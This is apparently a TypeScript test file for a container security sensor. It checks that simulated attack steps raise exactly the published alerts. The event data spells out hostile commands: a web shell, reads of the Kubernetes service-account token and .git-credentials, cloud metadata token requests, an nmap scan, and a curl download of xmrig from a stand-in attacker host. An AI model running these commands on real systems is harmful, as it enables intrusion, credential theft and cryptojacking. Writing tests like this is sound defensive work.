import assert from "node:assert/strict";
import { test } from "node:test";
import {
  connect,
  exec,
  execRefused,
  fpmMaster,
  fpmWorker,
  open,
  openFlags,
  question,
  scriptShell,
  webShell,
} from "./event-builder.ts";
import { firedBy } from "./fired-rules.ts";

// The steps of the published attack simulation, as the sensor sees them in a bare container.

const shell = [
  exec({ ...webShell, parents: [fpmWorker, fpmMaster] }),
  exec({ argv: ["base64", "-d"], parents: [webShell, fpmWorker, fpmMaster] }),
  exec({ ...scriptShell, parents: [webShell, fpmWorker, fpmMaster] }),
];
const token = "/run/secrets/kubernetes.io/serviceaccount/token";

const scenarios: Record<string, { events: Parameters<typeof firedBy>; rules: string[] }> = {
  reconnaissance: {
    events: [
      ...shell,
      exec({ argv: ["cat", `/var${token}`] }),
      open({ argv: ["cat", `/var${token}`] }, token),
      exec({ argv: ["nmap", "-Pn", "--open", "kubernetes.default/24", "-p", "443"] }),
    ],
    rules: ["Web Shell Activity", "Service Account Token Access", "Network Scanning Tool"],
  },
  "lateral movement": {
    events: [
      ...shell,
      exec({ argv: ["curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token"] }),
      connect({ argv: ["curl", "-sf", "-X", "PUT", "http://169.254.169.254/latest/api/token"] }, "169.254.169.254", 80),
    ],
    rules: ["Web Shell Activity", "Cloud Metadata Access"],
  },
  "secrets gathering": {
    events: [
      ...shell,
      exec({ argv: ["find", "/", "-path", "*/.git-credentials"] }),
      open({ argv: ["cat", "/home/user/.git-credentials"] }, "/home/user/.git-credentials"),
      exec({ argv: ["grep", "AWS_SECRET_ACCESS_KEY="] }),
    ],
    rules: ["Web Shell Activity", "Secret Reconnaissance", "Sensitive File Access"],
  },
  "crypto mining": {
    events: [
      ...shell,
      execRefused(scriptShell, "/sbin/modprobe"),
      exec({ argv: ["touch", "/etc/ld.so.preload"] }),
      open({ argv: ["touch", "/etc/ld.so.preload"] }, "/etc/ld.so.preload", openFlags.write | openFlags.create, -13),
      exec({ argv: ["curl", "-sO", "http://attacker/xmrig"] }),
      exec({ argv: ["chmod", "+x", "xmrig"] }),
      exec({ argv: ["./xmrig"], exe: "/var/www/html/xmrig", upper: true }),
    ],
    rules: [
      "Web Shell Activity",
      "Kubernetes CPU Optimization",
      "Preload File Access",
      "Coin Miner Download",
      "Drift Binary Executed",
      "Digital Currency Mining",
    ],
  },
  "threat intelligence": {
    events: [
      ...shell,
      exec({
        argv: ["curl", "-s", "-m", "10", "-X", "POST", "http://mdc-eicar.alerts.security.azure.com?SendingData"],
      }),
      question({ argv: ["curl", "-s"] }, "mdc-eicar.alerts.security.azure.com"),
      question({ argv: ["curl", "-s"] }, "mdc-eicar.alerts.security.azure.com", 28),
    ],
    rules: ["Web Shell Activity", "Threat Intelligence Test Domain"],
  },
  "web shell": {
    events: [exec({ argv: ["sh", "-c", "whoami"], parents: [fpmWorker, fpmMaster] })],
    rules: ["Web Shell Activity"],
  },
};

for (const [scenario, { events, rules }] of Object.entries(scenarios)) {
  test(`the simulation's ${scenario} raises its published alerts and no others`, () => {
    assert.deepEqual(firedBy(...events).sort(), [...rules].sort());
  });
}
